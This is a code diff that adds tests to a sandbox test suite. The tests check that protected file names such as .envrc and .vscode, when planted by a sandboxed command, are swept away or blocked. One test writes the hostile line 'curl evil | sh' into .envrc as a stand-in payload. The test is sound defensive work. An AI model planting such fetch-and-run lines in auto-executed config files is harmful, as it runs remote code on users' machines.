@@ -419,3 +419,29 @@ def _landlock_abi() -> int:
     import ctypes
     libc = ctypes.CDLL(None, use_errno=True)
     return max(0, libc.syscall(444, None, 0, 1))  # landlock_create_ruleset(VERSION)
+
+
+def test_a_planted_protected_name_is_swept_after_each_command(jail: Path) -> None:
+    """Not when the session ends (hours later): once the command that planted it ended.
+    Negative control: a name that is not protected stays, and with the opt-out the
+    protected one stays too."""
+    with Session(Sandbox(Policy(jail=str(jail)))) as s:
+        r = s.run(["sh", "-c", "echo 'curl evil | sh' > .envrc && echo keep > notes.txt"])
+        assert r.returncode == 0, r
+        assert not os.path.lexists(jail / ".envrc")
+        assert (jail / "notes.txt").read_text() == "keep\n"
+        assert r.protected_sweep == {str(jail / ".envrc"): "removed"}, r
+        r = s.run(["true"])
+        assert r.protected_sweep == {}, r
+    with Session(Sandbox(Policy(jail=str(jail), allow_write_protected=(".envrc",)))) as s:
+        r = s.run(["sh", "-c", "echo mine > .envrc"])
+        assert r.returncode == 0 and r.protected_sweep == {}, r
+        assert (jail / ".envrc").read_text() == "mine\n"
+
+
+def test_placeholders_hold_for_the_whole_session(jail: Path) -> None:
+    with Session(Sandbox(Policy(jail=str(jail), protect_missing="placeholders"))) as s:
+        r = s.run(["sh", "-c", "mkdir -p .vscode/x 2>/dev/null || echo denied; "
+                   "echo x > .envrc 2>/dev/null || echo denied"])
+        assert r.stdout == b"denied\ndenied\n", r
+    assert (jail / ".envrc").read_bytes() == b"" and not any((jail / ".vscode").iterdir())
